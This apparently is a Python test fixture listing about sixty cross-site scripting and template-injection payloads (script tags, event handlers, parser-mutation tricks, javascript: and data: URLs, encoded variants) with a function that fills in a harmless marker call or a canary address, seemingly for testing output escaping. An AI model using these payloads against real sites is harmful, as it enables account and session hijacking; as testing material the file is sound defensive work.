"""Sixty strings that would run a script, or load something, in a page that put them in as they are."""

__all__ = ["hostile"]

# RUN stands for a call that leaves a mark, URL for an address that notes who asks for it.
PAYLOADS = (
    # Script elements, out of whatever holds the string.
    "<script>RUN</script>",
    '"><script>RUN</script>',
    "'><script>RUN</script>",
    "</title><script>RUN</script>",
    "</style></script><script>RUN</script>",
    "--><script>RUN</script><!--",
    "]]><script>RUN</script><![CDATA[",
    "<ScRiPt\n>RUN</sCrIpT\t>",
    "<script src=URL></script>",
    '<script type=module>import "URL"</script>',
    "<svg><script>RUN</script></svg>",
    "<svg><script href=URL /></svg>",
    # Mutations: another tree after a second parse.
    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=RUN>">',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
    # Handlers.
    "<img src=x onerror=RUN>",
    '"><img src=x onerror=RUN>',
    "<svg onload=RUN>",
    "<svg/onload=RUN//",
    "<body onload=RUN>",
    "<input autofocus onfocus=RUN>",
    "<details open ontoggle=RUN>x</details>",
    "<video><source onerror=RUN></video>",
    "<marquee onstart=RUN>x</marquee>",
    "<style onload=RUN></style>",
    "<iframe onload=RUN></iframe>",
    "<b onmouseover=RUN>x</b>",
    '<p style="animation:a 1s" onanimationstart=RUN>x<style>@keyframes a{}</style>',
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    # Out of an attribute.
    '" onmouseover="RUN',
    "' onmouseover='RUN",
    "` onmouseover=`RUN",
    '" autofocus tabindex=1 onfocus=RUN x="',
    '"\nonmouseover="RUN',
    # Addresses that are scripts or documents.
    "<a href=javascript:RUN>x</a>",
    '<a href="java&#10;script:RUN">x</a>',
    "<iframe src=javascript:RUN></iframe>",
    "<form action=javascript:RUN><button>x</button></form>",
    "<svg><a><set attributeName=href to=javascript:RUN /><text>x</text></a></svg>",
    "<iframe src=\"data:text/html,<script>fetch('URL')</script>\"></iframe>",
    "<object data=\"data:text/html,<script>fetch('URL')</script>\"></object>",
    '<iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe>',
    '<meta http-equiv=refresh content="0;url=URL">',
    "<base href=URL/><script src=a></script>",
    # What is only loaded.
    "<embed src=URL>",
    "<link rel=stylesheet href=URL><link rel=import href=URL>",
    '<style>@import "URL";</style>',
    "<b style=\"background:url('URL');width:expression(RUN)\">x</b>",
    '<img srcset="URL 1x">',
    '<svg><use href="URL#a"/></svg>',
    # Written in another way: some decoder between here and the page may be too eager.
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;img src=x onerror=RUN&#62;",
    "%3Cscript%3ERUN%3C/script%3E",
    "＜script＞RUN＜/script＞",
    "\u202e<script>RUN</script>\u202c",
    "\u00c0\u00bcscript\u00c0\u00beRUN\u00c0\u00bc/script\u00c0\u00be",
    '<img src="\0" onerror=RUN>',
    # For template engines and for matplotlib.
    "${RUN}`${RUN}`#{RUN}<%= RUN %>",
    "{{7*7}}{% raw %}{{ cycler.__init__.__globals__ }}",
    "$\\href{javascript:RUN}{x}\\frac{1}{",
)


def hostile(address: str) -> list[str]:
    """The strings; number n calls `top.ran(n)`, or asks for `address/n`."""
    return [text.replace("RUN", f"top.ran({n})").replace("URL", f"{address}/{n}") for n, text in enumerate(PAYLOADS)]
